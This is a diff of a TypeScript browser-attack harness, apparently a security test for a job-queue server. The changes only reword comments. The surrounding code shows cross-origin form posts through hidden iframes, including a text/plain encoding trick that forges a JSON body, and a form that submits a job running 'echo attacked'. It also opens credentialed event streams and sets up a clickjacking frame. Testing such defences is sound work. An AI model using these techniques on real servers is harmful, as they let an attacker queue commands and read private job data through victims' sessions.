@@ -19,7 +19,7 @@ async function attack(target: string, job: string): Promise<Outcome> {
   const api = `${target}/api/queue`;
   const patiently = <T>(attempt: Promise<T>) => Promise.race([attempt, new Promise((resolve) => setTimeout(resolve, 3000))]);
 
-  // Forms need no permission of the other origin.
+  // Browsers send forms to other origins without asking for permission.
   const form = async (path: string, fields: Record<string, string>, enctype: string) => {
     const frame = document.createElement("iframe");
     frame.name = `frame-${outcome.attempted++}`;
@@ -39,7 +39,7 @@ async function attack(target: string, job: string): Promise<Outcome> {
     }
   };
   const encoded = "application/x-www-form-urlencoded";
-  // A field `name=value` is sent as text, so that the body is JSON.
+  // With `text/plain`, the body is `name=value`. The name and the value are chosen so that this is valid JSON.
   const half = submission.indexOf(":");
   await form("/api/queue/jobs", { [`${submission.slice(0, half)}:"`]: `",${submission.slice(half)}` }, "text/plain");
   await form("/tasks/queue/new", { run: "echo attacked", "steps[0][run]": "echo attacked" }, encoded);
@@ -89,7 +89,7 @@ async function attack(target: string, job: string): Promise<Outcome> {
   await load(document.createElement("img"), "src", "/favicon.svg");
   await load(Object.assign(document.createElement("link"), { rel: "stylesheet" }), "href", "/tasks/queue");
 
-  // Streams do not need a request that changes something.
+  // Browsers also open event streams of other origins without asking for permission first.
   for (const path of [`/jobs/${job}/events/stream`, "/jobs/stream", `/events/stream?job=${job}`]) {
     outcome.attempted++;
     const source = new EventSource(api + path, { withCredentials: true });
@@ -113,7 +113,7 @@ async function attack(target: string, job: string): Promise<Outcome> {
   document.body.append(sandbox);
   await patiently(new Promise((resolve) => sandbox.addEventListener("load", () => setTimeout(resolve, 500))));
 
-  // An attacker could cover a page of the server in a frame, and make the reader click on it unknowingly.
+  // An attacker could hide a page of the server, in a frame, below other content, and make the reader click on it.
   outcome.attempted++;
   const frame = document.createElement("iframe");
   frame.src = `${target}/tasks/queue`;
